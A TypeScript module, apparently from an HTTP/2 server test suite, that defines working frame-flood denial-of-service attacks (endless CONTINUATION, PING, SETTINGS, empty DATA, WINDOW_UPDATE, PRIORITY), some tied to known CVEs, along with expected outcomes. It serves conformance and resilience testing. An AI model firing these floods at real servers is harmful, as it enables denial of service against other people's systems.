/** Floods of frames that cost a server more than they cost their sender. */
import { type Attack, type Outcome, byOne, flood } from '../attack.ts'
import type { Connection, Target } from '../connection.ts'
import { flag, frame, headers, priority, settings, type, windowUpdate } from '@volant/test-kit/http2-frames'
import { head, literal } from '../hpack.ts'
import { openHeaders } from './resets.ts'

const goal = { calls: 500, memory: 'rise', ends: 'connections', back: 10 } as const
const times = { full: 200_000, quick: 30_000 } as const

export const floods: readonly Attack[] = [
  {
    name: 'continuation',
    about: 'A header block that never ends, a field of 1 KB in each CONTINUATION (CVE-2024-27983).',
    goal,
    times: { full: 50_000, quick: 5_000 },
    run(target, count) {
      const more = frame(type.continuation, 0, 1, literal('x', 'a'.repeat(1_000)))
      return endless(target, more, count)
    },
  },
  {
    name: 'empty-continuation',
    about: 'A header block that never ends, of empty CONTINUATION frames.',
    goal,
    times,
    run: (target, count) => endless(target, frame(type.continuation, 0, 1), count),
  },
  {
    name: 'ping',
    about: 'PING, and no reply to it is read (CVE-2019-9512).',
    goal,
    times,
    run(target, count, { send, grace }) {
      const one = frame(type.ping, 0, 0, Buffer.alloc(8))
      return byOne(target, (connection) => flood(connection, count, () => one), {
        deaf: true,
        wait: send + grace,
      })
    },
  },
  {
    name: 'settings',
    about: 'SETTINGS, and no acknowledgement is read (CVE-2019-9515).',
    goal,
    times,
    run(target, count, { send, grace }) {
      const one = settings([[3, 100]])
      return byOne(target, (connection) => flood(connection, count, () => one), {
        deaf: true,
        wait: send + grace,
      })
    },
  },
  {
    name: 'empty-data',
    about: 'A body of empty DATA frames that does not end (CVE-2019-9518, RUSTSEC-2026-0258).',
    goal,
    times,
    run(target, count) {
      const one = frame(type.data, 0, 1)
      return byOne(target, async (connection) => {
        await connection.send(headers(1, head({ method: 'POST', encrypted: target.encrypted }), true))
        return flood(connection, count, () => one)
      })
    },
  },
  {
    name: 'small-data',
    about:
      'Bodies of DATA frames of one byte, as many as flow control allows. Small frames are allowed as such.',
    goal: { ...goal, ends: null },
    times,
    run: (target, count) =>
      byOne(target, (connection) => smallData(connection, target, count), { wait: 2_000 }),
  },
  {
    name: 'window-update',
    about: 'WINDOW_UPDATE of the connection by 1.',
    goal,
    times,
    run(target, count) {
      const one = windowUpdate(0, 1)
      return byOne(target, (connection) => flood(connection, count, () => one))
    },
  },
  {
    name: 'priority',
    about: 'PRIORITY of streams that were never opened, each dependent on the one before (CVE-2019-9513).',
    goal,
    times,
    run: (target, count) =>
      byOne(target, (connection) => flood(connection, count, (at) => priority(2 * at + 3, 2 * at + 1))),
  },
]

/** Begins a header block, then sends the same frame again and again. */
function endless(target: Target, more: Uint8Array, count: number): Promise<Outcome> {
  return byOne(target, async (connection) => {
    await connection.send(openHeaders(1, head({ encrypted: target.encrypted })))
    return flood(connection, count, () => more)
  })
}

/** Opens a stream whenever the last one has no window left. Ends when the connection has had no window for 2 s. */
async function smallData(connection: Connection, target: Target, count: number): Promise<number> {
  const block = head({ method: 'POST', encrypted: target.encrypted })
  let done = 0
  for (let stream = 1; done < count && connection.ending === 'open'; stream += 2) {
    await connection.send(headers(stream, block, true))
    const one = frame(type.data, 0, stream, Buffer.from('x'))
    let left = Math.min(60_000, count - done, connection.streamWindow)
    while (left > 0 && connection.ending === 'open' && !connection.isStalled) {
      const share = Math.min(left, connection.window, 1_000)
      if (share <= 0) {
        if (await connection.until(() => connection.window > 0, 2_000)) continue
        return done
      }
      connection.window -= share
      const sent = await flood(connection, share, () => one)
      done += sent
      left -= share
    }
    if (connection.isStalled) return done
    await connection.send(frame(type.data, flag.endStream, stream))
  }
  return done
}
